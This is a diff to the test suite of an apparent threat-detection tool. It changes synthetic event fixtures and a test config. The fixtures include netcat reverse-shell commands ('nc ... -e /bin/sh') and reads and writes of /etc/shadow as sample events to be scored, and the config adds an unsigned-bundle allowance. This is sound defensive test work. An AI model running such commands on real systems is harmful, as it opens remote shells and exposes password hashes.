@@ -37,6 +37,7 @@ def process_config(tmp_path: Path, **extra: Any) -> tuple[Path, dict[str, Any]]:
         "metrics": {"listen": f"127.0.0.1:{free_port()}"},
         "actions": {"toss_below": -1000, "alert_at": 100},
         "bundle": str(DEFAULT_BUNDLE),
+        "admin": {"allow_unsigned": True},
         "state_dir": str(tmp_path / "state"),
         "plaintext": True,
         **extra,
@@ -50,8 +51,8 @@ def mixed_round(marker: str) -> list[dict[str, Any]]:
     return [
         exec_event("/usr/bin/ls", ["ls", marker]),
         exec_event("/usr/bin/nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh", marker]),
-        connect_event("10.9.9.9", 8080, **{"threatseer.marker": marker}),
-        open_event("/etc/shadow", ["read"], **{"threatseer.marker": marker}),
+        connect_event("10.9.9.9", 8080, **{"process.working_directory": f"/{marker}"}),
+        open_event("/etc/shadow", ["read"], **{"process.working_directory": f"/{marker}"}),
     ]
 
 
@@ -235,7 +236,7 @@ def test_bad_config_exits_2_with_one_line_naming_file_and_key(tmp_path, threatse
 def test_replay_scores_a_jsonl_file_with_a_bundle(tmp_path, threatseer_cmd) -> None:
     events = [exec_event("/usr/bin/ls", ["ls"]),
               exec_event("/usr/bin/nc", ["nc", "1.2.3.4", "9", "-e", "/bin/sh"]),
-              open_event("/etc/shadow", ["write"])]
+              {**open_event("/etc/shadow", ["write"]), "event.action": "write-open"}]
     path = tmp_path / "recorded.jsonl"
     lines = [json.dumps(ecs.nest(e)) for e in events]
     lines.insert(1, "{not json")
